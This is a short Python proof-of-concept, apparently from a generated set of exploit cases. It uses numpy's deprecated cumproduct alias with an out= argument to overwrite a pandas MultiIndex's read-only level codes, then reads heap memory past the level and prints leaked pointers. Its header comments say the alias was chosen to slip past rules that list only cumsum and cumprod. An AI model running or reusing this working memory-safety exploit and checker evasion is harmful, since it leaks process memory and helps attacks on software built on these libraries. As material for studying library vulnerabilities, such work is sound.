# source: numpy 1.24 numpy/core/fromnumeric.py cumproduct (deprecated alias of cumprod, still exported as np.cumproduct) -> multiply.accumulate(out=...), which in numpy 1.24 writes into arrays flagged read-only (the RULES name cumsum/cumprod/nancumsum/accumulate, not this alias); pandas 1.5.3 MultiIndex._get_level_values -> take_nd(lev._values, level_codes) (cython take, no bounds check)
# family: numpy running-total writer under an alias name writes a MultiIndex's read-only level codes -> out-of-bounds read of the level
# goal: level codes 5..100 over a 2-entry level; get_level_values reads heap words (a leaked 0x7f... pointer) past the level
import numpy as np
import pandas as pd

mi = pd.MultiIndex.from_arrays([[10, 20, 10, 20], ["p", "q", "p", "q"]])
level_codes = mi.codes[0]
print("level 0:", list(mi.levels[0]), "codes", level_codes, "writeable", level_codes.flags.writeable)
np.cumproduct(np.array([5, 5, 4, 1], dtype=level_codes.dtype), out=level_codes)
print("codes after:", mi.codes[0])
print("level 0 values read past a 2-entry level:", [hex(v) for v in mi.get_level_values(0)])
